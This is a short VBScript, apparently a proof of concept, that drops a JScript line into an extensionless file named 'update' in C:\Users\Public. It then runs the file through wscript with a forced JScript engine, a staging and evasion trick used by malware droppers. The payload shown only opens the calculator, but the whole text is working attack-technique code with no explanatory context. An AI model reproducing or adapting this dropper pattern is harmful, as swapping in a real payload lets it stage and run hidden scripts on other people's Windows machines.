Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile("C:\Users\Public\update", True)
f.WriteLine "new ActiveXObject('WScript.Shell').Run('calc.exe')"
f.Close
CreateObject("WScript.Shell").Run "wscript //e:jscript C:\Users\Public\update"
